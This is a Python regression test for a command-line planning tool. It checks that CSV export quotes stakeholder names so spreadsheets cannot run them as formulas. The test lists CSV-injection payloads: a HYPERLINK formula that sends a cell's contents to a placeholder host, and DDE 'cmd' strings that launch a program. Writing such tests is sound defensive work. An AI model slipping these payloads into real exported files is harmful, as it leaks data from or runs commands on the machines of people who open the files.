"""Names that a spreadsheet runs: ``=HYPERLINK(...)``, ``+cmd|...``, ``@SUM(...)``,
``-2+3+cmd|...``. Before the fix ``stakeholders -o x.csv`` wrote them as live formulas
(and ``evaluate -o x.csv`` too); now every text cell is quoted and such text starts
with a ``'``, while numbers stay numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from tests.hostile import Case

ATTACKS = [
    '=HYPERLINK("http://example.invalid/?q="&A1;"Klikk")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]


def make(tmp: Path) -> Case:
    plan = tmp / "plan.yaml"
    people = "".join(
        f"  - {{id: s{n}, name: '{a.replace(chr(39), chr(39) * 2)}', power: high, "
        f"interest: low, group: '{a.replace(chr(39), chr(39) * 2)}'}}\n"
        for n, a in enumerate(ATTACKS)
    )
    plan.write_text(
        f"schema: gevinst/1\nplan: {{id: p, title: Prøve}}\nstakeholders:\n{people}", "utf-8"
    )
    out = tmp / "interessenter.csv"

    def inert(_output: str) -> None:
        rows = list(csv.reader(io.StringIO(out.read_text("utf-8")), quoting=csv.QUOTE_NONNUMERIC))
        cells = [cell for row in rows for cell in row]
        assert all(isinstance(c, str) and not c.startswith(("=", "+", "-", "@")) for c in cells)
        assert {"'" + a for a in ATTACKS} <= set(cells)

    return Case(args=["stakeholders", str(plan), "-o", str(out)], exit=0, check=inert)
